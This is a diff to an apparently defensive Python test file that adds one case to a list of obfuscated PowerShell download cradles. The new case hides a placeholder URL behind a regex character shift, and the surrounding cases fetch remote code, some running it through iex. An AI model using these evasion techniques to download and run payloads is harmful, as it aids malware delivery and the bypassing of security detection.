@@ -93,6 +93,7 @@ CASES: Final = (
     Case("reverse by negative range", f"$a='{GET[::-1].replace(chr(39), chr(39) * 2)}';iex (-join $a[-1..-($a.Length)])"),
     Case("array reverse", f"$a='{GET[::-1].replace(chr(39), chr(39) * 2)}'.ToCharArray();[array]::Reverse($a);iex (-join $a)"),
     Case("regex from the right", f"iex (-join[regex]::Matches('{GET[::-1].replace(chr(39), chr(39) * 2)}','.','RightToLeft'))"),
+    Case("regex with a script block", "(New-Object Net.WebClient).DownloadString([regex]::Replace('gsso://nmd.dw`lokd/`.dwd','[a-z`]',{param($m) [char]([int][char]$m.Value+1)}))"),
     Case("backticks", f"(n`Ew-o`BJecT N`eT.w`ebCLi`Ent).\"d`OwNl`oADs`TrIng\"('{URL}')"),
     Case("quoted members", f"(&'New-Object' 'Net.WebClient').'DownloadString'.Invoke('{URL}')"),
     Case("call operator with format", f"(&('{{1}}{{0}}'-f'ject','New-Ob') ('{{0}}{{1}}'-f'Net.Web','Client')).('Download'+'String').Invoke('{URL}')"),
